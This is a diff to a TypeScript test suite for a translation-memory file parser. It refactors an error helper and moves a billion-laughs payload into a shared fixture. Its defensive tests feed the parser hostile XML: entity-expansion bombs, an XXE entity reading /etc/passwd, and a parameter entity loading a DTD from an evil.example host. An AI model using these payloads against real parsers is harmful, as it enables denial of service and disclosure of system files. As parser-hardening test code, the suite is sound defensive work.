@@ -7,29 +7,18 @@ import { readJsonl } from "./jsonl";
 import { decodeInput } from "./encoding";
 import { unzipFiles } from "./stream";
 import { FormatError } from "./errors";
+import { BILLION_LAUGHS, formatError } from "./test-fixtures";
 
 const TU = '<tu><tuv xml:lang="en"><seg>a</seg></tuv><tuv xml:lang="zh"><seg>甲</seg></tuv></tu>';
 const tmx = (body: string, prolog = "") =>
   `<?xml version="1.0"?>\n${prolog}<tmx version="1.4"><header/><body>${body}</body></tmx>`;
 
-function err(f: () => unknown): FormatError {
-  try {
-    f();
-  } catch (e) {
-    expect(e).toBeInstanceOf(FormatError);
-    return e as FormatError;
-  }
-  throw new Error("expected a FormatError");
-}
 
 describe("hostile and malformed XML", () => {
   it("refuses billion laughs (internal entity declarations) without expanding anything", () => {
-    const lol =
-      '<!DOCTYPE tmx [\n<!ENTITY lol "lol">\n' +
-      Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("\n") +
-      "\n]>\n";
+    const lol = BILLION_LAUGHS + "\n";
     const t0 = Date.now();
-    const e = err(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&lol9;</seg></tuv></tu>`, lol)));
+    const e = formatError(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&lol9;</seg></tuv></tu>`, lol)));
     expect(e.message).toMatch(/entit/i);
     expect(e.line).toBeGreaterThan(1);
     expect(Date.now() - t0).toBeLessThan(1000);
@@ -37,7 +26,7 @@ describe("hostile and malformed XML", () => {
 
   it("refuses external entities (XXE) and parameter entities", () => {
     const xxe = '<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
-    expect(err(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu>`, xxe))).message).toMatch(/entit/i);
+    expect(formatError(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu>`, xxe))).message).toMatch(/entit/i);
     const pe = '<!DOCTYPE tmx [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>';
     expect(() => readTmx(tmx(TU, pe))).toThrow(FormatError);
     // also through the InterText reader
@@ -46,7 +35,7 @@ describe("hostile and malformed XML", () => {
   });
 
   it("an undefined entity reference is an error, not an expansion", () => {
-    const e = err(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&nbsp;</seg></tuv></tu>`)));
+    const e = formatError(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&nbsp;</seg></tuv></tu>`)));
     expect(e.message).toMatch(/undefined entity|entity/i);
   });
 
@@ -59,25 +48,25 @@ describe("hostile and malformed XML", () => {
   });
 
   it("malformed XML fails with line and column", () => {
-    const e = err(() => readTmx('<tmx version="1.4">\n<header/>\n<body>\n<tu><tuv xml:lang="en"><seg>a</tuv></tu>\n</body></tmx>'));
+    const e = formatError(() => readTmx('<tmx version="1.4">\n<header/>\n<body>\n<tu><tuv xml:lang="en"><seg>a</tuv></tu>\n</body></tmx>'));
     expect(e.line).toBe(4);
     expect(e.column).toBeGreaterThan(1);
     expect(e.message).toMatch(/^TMX line 4, column \d+: malformed XML/);
-    expect(err(() => readTmx("")).message).toMatch(/root|malformed/);
-    expect(err(() => readTmx("<tmx><header/><body>")).message).toMatch(/malformed/);
-    expect(err(() => readTmx(tmx(TU) + "<tmx/>")).message).toMatch(/malformed/);
+    expect(formatError(() => readTmx("")).message).toMatch(/root|malformed/);
+    expect(formatError(() => readTmx("<tmx><header/><body>")).message).toMatch(/malformed/);
+    expect(formatError(() => readTmx(tmx(TU) + "<tmx/>")).message).toMatch(/malformed/);
   });
 
   it("caps nesting depth", () => {
     const deep = "<tmx>" + "<a>".repeat(100) + "</a>".repeat(100) + "</tmx>";
-    expect(err(() => readTmx(deep)).message).toMatch(/nested deeper than 64/);
+    expect(formatError(() => readTmx(deep)).message).toMatch(/nested deeper than 64/);
     expect(() => readTmx(deep, { maxDepth: 200 })).not.toThrow();
   });
 
   it("caps input size (bytes and strings)", () => {
     const big = tmx(TU.repeat(200));
-    expect(err(() => readTmx(big, { maxBytes: 1000 })).message).toMatch(/over the 1000-byte limit/);
-    expect(err(() => readTmx(Buffer.from(big), { maxBytes: 1000 })).message).toMatch(/limit/);
+    expect(formatError(() => readTmx(big, { maxBytes: 1000 })).message).toMatch(/over the 1000-byte limit/);
+    expect(formatError(() => readTmx(Buffer.from(big), { maxBytes: 1000 })).message).toMatch(/limit/);
     expect(() => readTsv("a\tb\n".repeat(1000), { maxBytes: 100 })).toThrow(/limit/);
     expect(() => readJsonl('{"en":"a","zh":"b"}\n'.repeat(100), { maxBytes: 100 })).toThrow(/limit/);
   });
@@ -108,11 +97,11 @@ describe("encodings", () => {
 
   it("rejects binary input and invalid UTF-8 clearly", () => {
     const bin = Buffer.from([0x3c, 0x74, 0x00, 0x01, 0x02, 0xff]);
-    expect(err(() => readTmx(bin)).message).toMatch(/binary \(NUL byte at offset 2\)/);
-    expect(err(() => readTsv(Buffer.from("a\tb\0c\n"))).message).toMatch(/binary/);
-    expect(err(() => readJsonl('{"en":"a\u0000"}')).message).toMatch(/binary/);
-    expect(err(() => decodeInput(Buffer.from([0x61, 0xc3, 0x28]), { format: "text" })).message).toMatch(/not valid UTF-8/);
+    expect(formatError(() => readTmx(bin)).message).toMatch(/binary \(NUL byte at offset 2\)/);
+    expect(formatError(() => readTsv(Buffer.from("a\tb\0c\n"))).message).toMatch(/binary/);
+    expect(formatError(() => readJsonl('{"en":"a\u0000"}')).message).toMatch(/binary/);
+    expect(formatError(() => decodeInput(Buffer.from([0x61, 0xc3, 0x28]), { format: "text" })).message).toMatch(/not valid UTF-8/);
     // UTF-16 without BOM has NUL bytes: refused, and the message says why
-    expect(err(() => readTsv(Buffer.from("a\tb\n", "utf16le"))).message).toMatch(/byte-order mark/);
+    expect(formatError(() => readTsv(Buffer.from("a\tb\n", "utf16le"))).message).toMatch(/byte-order mark/);
   });
 });
